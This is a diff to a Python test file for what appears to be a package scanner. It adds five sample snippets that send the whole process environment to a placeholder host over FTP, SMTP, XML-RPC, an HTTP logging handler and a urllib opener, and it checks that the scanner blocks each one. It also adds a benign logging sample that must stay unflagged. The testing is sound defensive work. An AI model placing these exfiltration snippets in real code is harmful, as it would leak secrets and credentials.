@@ -91,7 +91,62 @@ LOOKUPS = (
     ),
 )
 
-BLOCKED = IMPLICIT_CALLS + EXEC_BY_OTHER_NAMES + LOOKUPS
+# The environment sent by a client's own method rather than by `send`/`request`.
+_ENV = "json.dumps(dict(os.environ)).encode()"
+EXFILTRATION = (
+    Technique(
+        "ftp-upload-of-the-environment",
+        "import os, io, json, ftplib\nftp = ftplib.FTP('example.invalid')\n"
+        f"ftp.storbinary('STOR e', io.BytesIO({_ENV}))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "mail-of-the-environment",
+        "import os, smtplib\nsmtplib.SMTP('example.invalid').sendmail("
+        "'a@example.invalid', ['b@example.invalid'], str(dict(os.environ)))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "rpc-proxy-method-given-the-environment",
+        "import os, xmlrpc.client\n"
+        "xmlrpc.client.ServerProxy('https://example.invalid/rpc').log(dict(os.environ))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "logger-with-an-http-handler",
+        "import os, logging, logging.handlers\nlog = logging.getLogger('b')\n"
+        "log.addHandler(logging.handlers.HTTPHandler('example.invalid', '/c', method='POST'))\n"
+        "log.error('%s', dict(os.environ))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "own-subclass-of-urllib-opener",
+        "import os, json, urllib.request\n"
+        "class Opener(urllib.request.OpenerDirector):\n    pass\n"
+        "o = Opener()\no.add_handler(urllib.request.HTTPSHandler())\n"
+        f"o.open('https://example.invalid/c', data={_ENV})\n",
+        Severity.CRITICAL,
+    ),
+)
+
+BLOCKED = IMPLICIT_CALLS + EXEC_BY_OTHER_NAMES + LOOKUPS + EXFILTRATION
+
+# Ordinary build code near these techniques: it must stay below medium.
+ORDINARY = (
+    Technique(
+        "logger-with-a-file-handler-logging-a-setting",
+        "import os, logging\nlog = logging.getLogger('b')\n"
+        "log.addHandler(logging.FileHandler('build.log'))\n"
+        "log.info('building with %s', os.environ.get('CC', 'cc'))\n",
+        Severity.INFO,
+    ),
+)
+
+
+@pytest.mark.parametrize("technique", ORDINARY, ids=lambda t: t.name)
+def test_ordinary_build_code_is_not_flagged(technique: Technique, tmp_path: Path) -> None:
+    findings = _scan(technique, tmp_path)
+    assert all(f.severity < Severity.MEDIUM for f in findings), findings
 
 
 @pytest.mark.parametrize("technique", BLOCKED, ids=lambda t: t.name)
@@ -102,7 +157,7 @@ def test_technique_is_blocked(technique: Technique, tmp_path: Path) -> None:
     assert not (tmp_path / "canary").exists()
 
 
-@pytest.mark.parametrize("technique", BLOCKED, ids=lambda t: t.name)
+@pytest.mark.parametrize("technique", BLOCKED + ORDINARY, ids=lambda t: t.name)
 def test_prefilter_hides_nothing_at_import_time(technique: Technique, tmp_path: Path) -> None:
     files = {"setup.py": "from setuptools import setup\nsetup(name='demo', version='1.0')\n"}
     files["demo/__init__.py"] = technique.body
